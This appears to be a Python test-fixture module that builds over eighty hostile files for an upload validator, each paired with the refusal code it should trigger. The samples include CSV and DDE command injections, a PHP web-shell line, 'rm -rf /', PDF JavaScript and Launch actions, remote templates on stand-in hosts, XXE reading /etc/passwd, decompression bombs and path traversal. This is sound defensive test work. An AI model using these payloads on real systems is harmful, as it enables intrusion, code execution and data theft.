# At least eighty hostile files, made here; none may be taken. Pictures that carry harm beside them: inert.py.
import struct
import zipfile
import zlib
from collections.abc import Callable
from io import BytesIO

from tests.files import build

HOSTILE: dict[str, tuple[str, str, Callable[[], bytes]]] = {}
"""What it is → (code of the refusal, file name, maker)."""
HTML = b"<html><script>alert(document.cookie)</script></html>"
JS_ACTION = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"


def refuse(code: str, what: str, name: str, make: Callable[[], bytes]) -> None:
    assert what not in HOSTILE, what
    HOSTILE[what] = (code, name, make)


def bomb_png(side: int) -> bytes:
    head = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    rows = zlib.compress(bytes(1_000_000), 9)
    return (
        b"\x89PNG\r\n\x1a\n"
        + build.png_chunk(b"IHDR", head)
        + build.png_chunk(b"IDAT", rows)
        + build.png_chunk(b"IEND", b"")
    )


def jpeg_claiming(width: int, height: int) -> bytes:
    plain = build.jpeg()
    at = plain.index(b"\xff\xc0") + 5
    return plain[:at] + struct.pack(">HH", height, width) + plain[at + 4 :]


def zip_bomb(kind="docx", size=50_000_000) -> bytes:
    return build.ooxml(kind, {"word/media/besar.xml": b" " * size})


def lying_size() -> bytes:
    """The central directory says 10 bytes, the part holds a million."""
    made = build.ooxml(more={"word/besar.xml": b"A" * 1_000_000})
    return made.replace(struct.pack("<I", 1_000_000), struct.pack("<I", 10))


def with_flag(made: bytes, flag: int) -> bytes:
    """Sets a general-purpose flag in every header of an archive."""
    out = bytearray(made)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = made.find(mark)
        while at >= 0:
            out[at + offset] |= flag
            at = made.find(mark, at + 4)
    return bytes(out)


def twice_named() -> bytes:
    made = build.ooxml(more={"word/documenX.xml": "<a/>"})
    return made.replace(b"word/documenX.xml", b"word/document.xml")


def symlink() -> bytes:
    out = BytesIO(build.ooxml())
    with zipfile.ZipFile(out, "a") as packed:
        link = zipfile.ZipInfo("word/media/tautan.png")
        link.external_attr = 0xA1FF << 16
        packed.writestr(link, "/etc/passwd")
    return out.getvalue()


def remote(kind: str, target: str) -> Callable[[], bytes]:
    link = build.relations(build.relation(kind, target, "External"))
    return lambda: build.ooxml(more={"word/_rels/settings.xml.rels": link})


def part(name: str, content: bytes | str, kind="docx") -> Callable[[], bytes]:
    return lambda: build.ooxml(kind, {name: content})


def field(*words: str) -> Callable[[], bytes]:
    runs = "".join(f"<w:r><w:instrText>{word}</w:instrText></w:r>" for word in words)
    return lambda: build.ooxml(body=f"<w:p>{runs}</w:p>")


def deflated_with(change: Callable[[bytes], bytes]) -> Callable[[bytes], bytes]:
    return lambda body: change(zlib.compress(body))


# --- names and types
for extension, content in {
    "exe": b"MZ" + bytes(64), "html": HTML, "svg": b"<svg onload='alert(1)'/>", "js": b"alert(1)", "php": b"<?php 1;",
    "bat": b"@echo off", "sh": b"#!/bin/sh\nid", "lnk": b"L\x00\x00\x00", "hta": HTML, "apk": b"PK\x03\x04", "zip": b"PK\x03\x04",
    "rar": b"Rar!\x1a\x07\x00", "7z": b"7z\xbc\xaf\x27\x1c", "gif": b"GIF89a/*" + HTML, "docm": build.ooxml(),
    "xlsm": build.ooxml("xlsx"), "xml": b"<?xml version='1.0'?><a/>", "mhtml": b"MIME-Version: 1.0", "heic": b"\0\0\0\x18ftypheic",
}.items():  # fmt: skip
    refuse("extension", f"type {extension}", f"undangan.{extension}", lambda content=content: content)
refuse("extension", "double extension", "laporan.pdf.exe", lambda: b"MZ" + bytes(64))
refuse("extension", "spaces before the extension", "laporan.pdf" + " " * 80 + ".exe", lambda: build.pdf())
refuse("extension", "right-to-left override", "laporan\u202efdp.exe", lambda: build.pdf())
refuse("extension", "zero width in the extension", "laporan.pdf\u200b.h\u200btml", lambda: HTML)
refuse("extension", "trailing dot", "laporan.html.", lambda: HTML)
refuse("extension", "no extension", "laporan", lambda: build.pdf())
refuse("extension", "only an extension of dots", "...", lambda: build.pdf())
refuse("empty", "empty", "kosong.pdf", lambda: b"")
refuse("size", "too big", "besar.pdf", lambda: build.pdf() + bytes(25 * 1024 * 1024))

# --- one thing named as another
refuse("mismatch", "program as photo", "foto.jpg", lambda: b"MZ" + bytes(512))
refuse("mismatch", "program as PDF", "laporan.pdf", lambda: b"MZ" + bytes(512))
refuse("mismatch", "ELF as PNG", "foto.png", lambda: b"\x7fELF" + bytes(512))
refuse("mismatch", "HTML as photo", "foto.jpg", lambda: HTML)
refuse("mismatch", "HTML as PDF", "laporan.pdf", lambda: HTML)
refuse("markup", "HTML as text", "catatan.txt", lambda: b"\n  " + HTML)
refuse("markup", "HTML with a mark as text", "catatan.txt", lambda: b"\xef\xbb\xbf<!DOCTYPE html>" + HTML)
refuse("mismatch", "SVG as PNG", "foto.png", lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>")
refuse("markup", "SVG as text", "catatan.txt", lambda: b"<svg onload='alert(1)'/>")
refuse("markup", "PHP as text", "catatan.txt", lambda: b"<?php system($_GET[0]);")
refuse("markup", "shell script as text", "catatan.txt", lambda: b"#!/bin/sh\nrm -rf /")
refuse("mismatch", "GIF with script as photo", "foto.jpg", lambda: b"GIF89a/*" + HTML)
refuse("mismatch", "archive as photo", "foto.jpg", lambda: build.archive({"a": "b"}))
refuse("damaged", "archive as document", "laporan.docx", lambda: build.archive({"a.txt": "b"}))
refuse("mismatch", "archive as PDF", "laporan.pdf", lambda: build.archive({"a.txt": "b"}))
refuse("heic", "HEIC as photo", "IMG_0001.jpg", lambda: b"\0\0\0\x18ftypheic" + bytes(64))
refuse("locked", "old Word as document", "surat.docx", lambda: build.ole("WordDocument"))
refuse("damaged", "document as sheet", "matriks.xlsx", lambda: build.ooxml("docx"))
refuse("damaged", "sheet as ODF", "matriks.ods", lambda: build.ooxml("xlsx"))
refuse("not_text", "binary as text", "catatan.txt", lambda: b"halo\x00dunia")
refuse("not_text", "terminal commands as text", "catatan.txt", lambda: b"halo \x1b]0;x\x07")
refuse("not_text", "UTF-16 as text", "catatan.txt", lambda: "halo".encode("utf-16"))
for number, formula in enumerate(("=cmd|'/C calc'!A0", "=HYPERLINK(\"http://x\")", "@SUM(1+9)*cmd|' /C calc'!A0",
                                  "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "+SUM(A1)")):  # fmt: skip
    quoted = '"' + formula.replace('"', '""') + '"'
    refuse("formula", f"CSV formula {number}", "data.csv", lambda quoted=quoted: f"Nama,Nilai\nA,{quoted}\n".encode())

# --- pictures
refuse("pixels", "PNG of two thousand megapixels", "foto.png", lambda: bomb_png(45_000))
refuse("pixels", "PNG of 64 megapixels", "foto.png", lambda: bomb_png(8_000))
refuse("pixels", "JPEG claiming 4 gigapixels", "foto.jpg", lambda: jpeg_claiming(65_000, 65_000))
refuse("pixels", "JPEG claiming 176 megapixels", "foto.jpg", lambda: jpeg_claiming(16_000, 11_000))
refuse("damaged", "JPEG cut in the middle", "foto.jpg", lambda: build.jpeg((640, 480))[:3000])
refuse("damaged", "JPEG of a head only", "foto.jpg", lambda: b"\xff\xd8\xff\xe0" + b"JFIF")
refuse("damaged", "PNG with a wrong checksum", "foto.png", lambda: build.png().replace(b"IDAT", b"IDAT\xff", 1))
refuse("damaged", "PNG with a text bomb", "foto.png", lambda: build.png(
    pnginfo=build.png_text(zbom="A" * 20_000_000)))  # fmt: skip
refuse("damaged", "WebP cut in the middle", "foto.webp", lambda: build.webp((640, 480))[:400])
refuse("damaged", "WebP of noise", "foto.webp", lambda: b"RIFF\xff\xff\xff\x7fWEBPVP8 " + bytes(range(256)))

# --- PDF
refuse("active", "PDF running script on opening", "a.pdf", lambda: build.pdf(catalog=b"/OpenAction" + JS_ACTION))
refuse("active", "PDF script by reference", "a.pdf", lambda: build.pdf(JS_ACTION, catalog=b"/OpenAction 6 0 R"))
refuse(
    "active",
    "PDF script in the names",
    "a.pdf",
    lambda: build.pdf(catalog=b"/Names<</JavaScript<</Names[(a)6 0 R]>>>>"),
)
refuse("active", "PDF script on a page", "a.pdf", lambda: build.pdf(page=b"/AA<</O" + JS_ACTION + b">>"))
refuse(
    "active",
    "PDF script with escaped name",
    "a.pdf",
    lambda: build.pdf(JS_ACTION.replace(b"/JavaScript", b"/J#61vaScr#69pt")),
)
refuse("active", "PDF script in an object stream", "a.pdf", lambda: build.pdf(build.object_stream(JS_ACTION)))
refuse("active", "PDF escaped script in an object stream", "a.pdf", lambda: build.pdf(
    build.object_stream(JS_ACTION.replace(b"/JavaScript", b"/Java#53cript"))))  # fmt: skip
refuse("active", "PDF script far inside an object stream", "a.pdf", lambda: build.pdf(
    build.object_stream(b"[" + b"1 " * 600_000 + b"]", JS_ACTION)))  # fmt: skip
refuse("active", "PDF object stream not called one", "a.pdf", lambda: build.pdf(
    build.object_stream(JS_ACTION).replace(b"/Type/ObjStm", b"")))  # fmt: skip
refuse("active", "PDF object stream disguised as a picture", "a.pdf", lambda: build.pdf(
    build.object_stream(JS_ACTION).replace(b"/Type/ObjStm", b"/Subtype/Image").replace(b"/First", b"/Fi#72st")))  # fmt: skip
refuse("unusual", "PDF object stream in hexadecimal", "a.pdf", lambda: build.pdf(build.object_stream(
    JS_ACTION, pack=lambda body: body.hex().encode() + b">", filter_=b"/Filter/ASCIIHexDecode")))  # fmt: skip
refuse("unusual", "PDF object stream twice packed", "a.pdf", lambda: build.pdf(build.object_stream(
    JS_ACTION, pack=lambda body: zlib.compress(zlib.compress(body)), filter_=b"/Filter[/FlateDecode/FlateDecode]")))  # fmt: skip
refuse("unusual", "PDF object stream with a predictor", "a.pdf", lambda: build.pdf(
    build.object_stream(JS_ACTION, dictionary=b"/DecodeParms<</Predictor 12/Columns 4>>")))  # fmt: skip
refuse("unusual", "PDF object stream with a false checksum", "a.pdf", lambda: build.pdf(
    build.object_stream(JS_ACTION, pack=deflated_with(lambda packed: packed[:-4] + b"\0\0\0\0"))))  # fmt: skip
refuse("active", "PDF script inside what looks like a stream", "a.pdf", lambda: build.pdf(
    build.stream(b"", b"9 0 obj\n" + JS_ACTION + b"\nendobj")))  # fmt: skip
refuse("active", "PDF starting a program", "a.pdf", lambda: build.pdf(catalog=b"/OpenAction<</S/Launch/F(cmd.exe)>>"))
refuse("active", "PDF with a file inside", "a.pdf", lambda: build.pdf(build.stream(b"/Type/EmbeddedFile", b"MZ")))
refuse(
    "active",
    "PDF with an unlabelled file inside",
    "a.pdf",
    lambda: build.pdf(b"<</Type/Filespec/F(a.exe)/EF<</F 7 0 R>>>>"),
)
refuse(
    "active",
    "PDF with a form that sends",
    "a.pdf",
    lambda: build.pdf(catalog=b"/OpenAction<</S/SubmitForm/F(http://x)>>"),
)
refuse("active", "PDF with an XFA form", "a.pdf", lambda: build.pdf(catalog=b"/AcroForm<</XFA 6 0 R>>"))
refuse("active", "PDF with a script address", "a.pdf", lambda: build.pdf(b"<</S/URI/URI (javascript:alert\\(1\\))>>"))
refuse("active", "PDF playing media", "a.pdf", lambda: build.pdf(b"<</Subtype/RichMedia>>"))
refuse("active", "PDF opening an inner PDF", "a.pdf", lambda: build.pdf(b"<</S/GoToE/D[0]>>"))
refuse("locked", "PDF encrypted", "a.pdf", lambda: build.pdf(b"<</Filter/Standard/V 4>>", trailer=b"/Encrypt 6 0 R"))
refuse("bomb", "PDF bomb", "a.pdf", lambda: build.pdf(build.flate(b"", bytes(260_000_000))))
refuse("unusual", "PDF of streams without an end", "a.pdf", lambda: b"%PDF-1.4\n" + b"stream\n" * 400_000 + b"%%EOF")
refuse("mismatch", "PDF after HTML", "a.pdf", lambda: HTML + build.pdf())
refuse(
    "polyglot", "PDF holding HTML in its head", "a.pdf", lambda: build.pdf().replace(b"\n", b"\n%" + HTML + b"\n", 1)
)
refuse("polyglot", "PDF followed by HTML", "a.pdf", lambda: build.pdf() + HTML)
refuse("polyglot", "PDF followed by an archive", "a.pdf", lambda: build.pdf() + build.archive({"a.exe": b"MZ"}))
refuse("damaged", "PDF cut in the middle", "a.pdf", lambda: build.scan()[:4000])

# --- office documents
refuse("macro", "document with macros", "a.docx", part("word/vbaProject.bin", build.ole("VBA")))
refuse("macro", "macros under another name", "a.docx", lambda: build.ooxml(
    types='<Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/>'))  # fmt: skip
refuse("macro", "macro document renamed", "a.docx", lambda: build.ooxml(
    main_type="application/vnd.ms-word.document.macroEnabled.main+xml"))  # fmt: skip
refuse("macro", "sheet with old macros", "a.xlsx", part("xl/macrosheets/sheet1.xml", "<a/>", "xlsx"))
refuse("macro", "ActiveX", "a.docx", part("word/activeX/activeX1.xml", "<a/>"))
refuse("embedded", "program inside a document", "a.docx", part("word/media/alat.exe", b"MZ"))
refuse("embedded", "program under a picture's name", "a.docx", part("word/media/image1.png", b"MZ" + bytes(64)))
refuse("embedded", "OLE object", "a.docx", part("word/embeddings/oleObject1.bin", build.ole("\x01Ole10Native")))
refuse(
    "embedded", "archive inside a document", "a.pptx", part("ppt/media/image1.png", build.archive({"a": "b"}), "pptx")
)
refuse("embedded", "web page inside a document", "a.docx", part("word/afchunk.mht", HTML))
refuse("macro", "macros in an embedded sheet", "a.docx", lambda: build.ooxml(
    more={"word/embeddings/Sheet1.xlsx": build.ooxml("xlsx", {"xl/vbaProject.bin": build.ole("VBA")})}))  # fmt: skip
refuse("embedded", "document in document in document", "a.docx", lambda: build.ooxml(more={"word/embeddings/1.docx": build.ooxml(
    more={"word/embeddings/2.docx": build.ooxml()})}))  # fmt: skip
refuse("remote", "template from afar", "a.docx", remote("attachedTemplate", "https://jahat.example/x.dotm"))
refuse("remote", "template from a share", "a.docx", remote("attachedTemplate", "file://\\\\10.0.0.1\\x.dotm"))
refuse("remote", "template from a UNC path", "a.docx", remote("attachedTemplate", "\\\\10.0.0.1\\x.dotm"))
refuse("remote", "object from afar", "a.docx", remote("oleObject", "mhtml:http://jahat.example/x.html!x-usc:y"))
refuse("remote", "frame from afar", "a.docx", remote("frame", " http://jahat.example/"))
refuse("remote", "link running script", "a.docx", remote("hyperlink", "javascript:alert(1)"))
refuse("remote", "DDE field", "a.docx", field(" DDEAUTO c:\\windows\\system32\\cmd.exe "))
refuse("remote", "DDE field in pieces", "a.docx", field(" DD", "EAU", "TO cmd "))
refuse(
    "remote",
    "DDE in a sheet",
    "a.xlsx",
    part("xl/externalLinks/externalLink1.xml", "<externalLink><ddeLink/></externalLink>", "xlsx"),
)
refuse(
    "unusual",
    "entities that grow",
    "a.docx",
    part("word/styles.xml", '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;">]><a>&c;</a>'),
)
refuse(
    "unusual",
    "entity reading a file",
    "a.xlsx",
    part("xl/workbook.xml", '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>', "xlsx"),
)
refuse("damaged", "XML in UTF-16", "a.docx", part("word/styles.xml", "<!DOCTYPE a><a/>".encode("utf-16")))
refuse("damaged", "XML that is none", "a.docx", part("_rels/.rels", "<a"))
refuse("bomb", "zip bomb", "a.docx", zip_bomb)
refuse("damaged", "false part size", "a.docx", lying_size)
refuse("bomb", "ten thousand parts", "a.docx", lambda: build.ooxml(more={f"word/{n}.xml": "" for n in range(4001)}))
refuse("unusual", "part outside", "a.docx", part("../../etc/cron.d/x", "x"))
refuse("unusual", "part at the root", "a.docx", part("/etc/passwd", "x"))
refuse("unusual", "part with backslashes", "a.docx", part("word\\..\\..\\x.xml", "x"))
refuse("unusual", "part twice", "a.docx", twice_named)
refuse("unusual", "symbolic link", "a.docx", symlink)
refuse("locked", "encrypted parts", "a.docx", lambda: with_flag(build.ooxml(), 1))
refuse("unusual", "archive with a remark", "a.docx", lambda: build.archive({"a": "b"}, comment=HTML))
refuse("mismatch", "archive after a program", "a.docx", lambda: b"MZ" + bytes(64) + build.ooxml())
refuse("unusual", "two archives in one", "a.docx", lambda: build.archive({"a": "b"}) + build.ooxml())
refuse("unusual", "document followed by a page", "a.docx", lambda: build.ooxml() + HTML)
refuse("damaged", "document cut in the middle", "a.docx", lambda: build.ooxml()[:500])
refuse(
    "damaged", "damaged part", "a.docx", lambda: build.ooxml().replace(b"word/document.xml", b"word/document.xmm", 1)
)
refuse("macro", "ODF with Basic", "a.odt", lambda: build.odf(more={"Basic/Standard/Module1.xml": "<script:module/>"}))
refuse("embedded", "ODF with Python", "a.ods", lambda: build.odf("spreadsheet", {"Scripts/python/x.py": "import os"}))
refuse("macro", "ODF running on opening", "a.odt", lambda: build.odf(body="<script:event-listener/>"))
refuse("macro", "ODF with DDE", "a.ods", lambda: build.odf("spreadsheet", body="<office:dde-source/>"))
refuse("locked", "ODF encrypted", "a.odt", lambda: build.odf(manifest="<manifest:encryption-data/>"))
refuse(
    "damaged", "ODF of another type", "a.odt", lambda: build.odf(mimetype="application/vnd.oasis.opendocument.graphics")
)
refuse(
    "embedded", "ODF with an OLE object", "a.odt", lambda: build.odf(more={"Object 1": build.ole("Equation Native")})
)
